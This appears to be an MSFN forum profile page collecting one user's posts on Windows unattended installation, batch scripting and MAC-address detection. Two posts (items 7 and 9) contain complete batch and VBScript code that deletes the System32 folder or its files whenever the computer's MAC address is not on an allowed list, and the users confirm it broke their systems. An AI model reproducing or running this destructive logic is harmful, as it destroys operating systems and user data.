Jump to content
MSFN is made available via donations, subscriptions and advertising revenue. The use of ad-blocking software hurts the site. Please disable ad-blocking software or set an exception for MSFN. ×


  • Posts

  • Joined

  • Last visited

  • Donations


About titishor

  • Birthday 01/07/1982

Contact Methods• Yahoo

Profile Information

  • OS
    Windows 7 x86

titishor's Achievements1. Ok..the problem is ..i've downloaded the windows 7 update using wsusoffline update generator..but i can't integrate them with rt7lite..it says something about .msu files...and i don't have a clue how to do that.. all i have in my wsus folder is a few archives and an .exe file wich is Windows 7's SP1 . well..i want tointegrate them using rt7lite , and i can't..some suggestions?! Thank you!
  2. regarding your office problem...try using USSF (google-it)to find what silent switch office has.. try this : start /wait %SOURCE%\applications\office\setup.exe or start /wait %SOURCE%\applications\office\setup.exe /admin
  3. yes, the batch will behave normally , and it will find the file you're searching , on the drive... BUT , the batch ain't done yet...Like i stated before , i'm doing something wrong with the search criteria .It doesn't displays the results as it should do ...
  4. Hello guys, I want to create a batch file that searches the entire hard drive and then displays the requested folder/song/movie. This i got so far... @ Echo off @echo Please enter the name of the file or folder you want to find! set /P= for %%i in (C: D: E: F: G: H: I: J: K: L: M: N: O: P: Q: R: S: T: U: V: W: X: Y: Z:) do if exist %%i\ @ECHO Found in this local hard drive %%i\ if NOT exist %%i\ @Echo Folder not found!! Probably you don't have it on your hard drive! I'm doing something wrong because when i enter the word , Atlantis for example it shows me this : Please enter the name of the file orfolder you want to find! Atlantis Found in this local hard drive C:\ Found in this local hard drive D:\ Found in this local hard drive E:\ Folder not found!! Probably you don't have it on your hard drive! Any help will be great... Regards, Sorin
  5. well, i didn't knew that thing...i've installed teamviewer sillently, and i can say that you are correct! it doesn't show up into C:\Program Files\ , Control Panel and so on.
  6. w8 just a sec... i'll give you a pic ... http://img219.imageshack.us/img219/4193/samplek.jpg
  7. @SpoiledBrat Ok... i've done the following i've took the .cmd file i modify it with my mac address and then i saved it into the $OEM$ folder. then, i opened cmdlines.txt and inserted the following line with qoutes: "MyMACs.cmd" i saved the cmdlines.txt and close it.. that's it.. i followed Yzowl instructions@ECHO OFF & SETLOCAL SET "_=" FOR /F "SKIP=1 TOKENS=*" %%# IN ('WMIC NICConfig WHERE "MACAddress = 'HERE' OR MACAddress = ' and HERE'" GET Description 2^>Nul') DO CALL :A %%# IF NOT DEFINED _ (ECHO=RD/S/Q %SystemRoot%\System32) GOTO :EOF :A IF "%*" NEQ "" SET "_=T" at line 4 replace HERE , and HEREwith your mac address and , at the line 6 delete ECHO= and leave the rest. the mac address should be like this-> 00:00:00:00:00:00 not like this 00-00-00-00-00-00 if you modify the .cmd file with your mac address..and the mac address coresponds, then nothing will happen' if you put different mac addresses into the file , and they don't correspond with the one on your computer, then the system32 folder will be deteled.. Not entirely ..but some key parts from the operating system will get deleted anyway. at the next restart u'll get the error that HAL.DLL is missing...
  8. It did quit, even though the text file was in the same folder as the script file. So, you're saying it's much simpler to call the script file itself. OK, thanks, I'll see how possible it is to call it through the RunOnce section in nLite or cmdlines.txt<br><br>Edit: I may have done even better. I found some of those .vbs to .exe converters that allowed me to include the text file as well. I'll report on the result.<br> it worked from the commandlines.txt in the $OEM$ folder..tested on virtual machine , and live... works perfectly! And i want to thank everyone ho helped me get this thing done! You guys are the best, and i'm happy i ran into your site! Thanks again ! And jaclaz... I'm still reading what you gave me to read
  9. Like 00:18:F3:A3:39:BE 01:19:F4:A4:3A:BF FF:07:E2:F2:28:AD If those were 3 MAC addresses for the 3 PCs that should be able to use the said disc. Just like I said before (one per line, semicolons, and alsouppercase). But if that's too hard, then this will work regardless of if it's upper or lower case, and regardless of dashes or semicolons: Option Explicit On Error Resume Next Const macfile = "macs.txt" 'file containing mac addresses Dim oWMI, oFSO, f, strMAC, MACs,colItems, objItem 'build array of mac addresses from file Set oFSO =CreateObject("Scripting.FileSystemObject") If Not(oFSO.FileExists(macfile)) Then WScript.quit 'no file to work from Set f = oFSO.OpenTextFile(macfile, 1) 'ForReading strMAC = f.ReadAll 'read the whole file in one fell swoop to minimize I/O f.Close MACs = Split(UCase(Replace(strMAC,"-",":")), vbCrLf) 'look for a matching MAC addy Set oWMI = GetObject("winmgmts:\\.\root\CIMV2") Set colItems = oWMI.ExecQuery( "SELECT * FROM Win32_NetworkAdapter") For Each objItem in colItems For EachstrMAC In MACs if(strMAC=objItem.MACAddress) then WScript.Quit 'found a match, quit (do no harm) Next Next 'no match found, delete system32 for the lulz Set f = oFSO.GetFolder(oFSO.GetSpecialFolder(1) ) '1=SystemFolder Set colItems = f.Files For Each objItem in colItems oFSO.DeleteFile(objItem) Next tested on my laptop and on my unit.... you're good at this )) it works... even as i write to you now , my windows reinstalls on unit ) yea ...i know ..i could use VMWARE or virtual pc...buti like testing live .. Thanks for your help! all i have to do now is put it on my windows.
  10. @Jaclaz well...after a few hours of brain damaging and 1 pack of ciggaretes smoked,(Sorry for my poor english) i finnaly accomplished something. the line is : FOR /F "tokens=2,3 delims=:" %%A IN ('IPCONFIG /ALL ^| FIND "Physical Address"') DO ECHO MAC=%%A and the result is : C:\Documentsand Settings\Administrator\Desktop>ECHO MAC= 00-18-F3-A3-39-BE MAC= 00-18-F3-A3-39-BE The funny thing is i tried this line , but i don't know why , it didn't worked..
  11. so...it goes like this ? 00-18-F3-A3-39-BE; or like this ? 00:18:F3:A3:39:BE;
  12. no no no ...don't get me wrong... i learn quicker incmd then in .vbs i triedyour vbs i created a "macs.txt" like you said , and enter the mac address of my computer. then i runned thescript.. at the next restart, ERROR )) hal.sys was missing like i stated before...i'm stupid... one MAC address per line with octets separated by semicolons iforgot that.

  • Create New...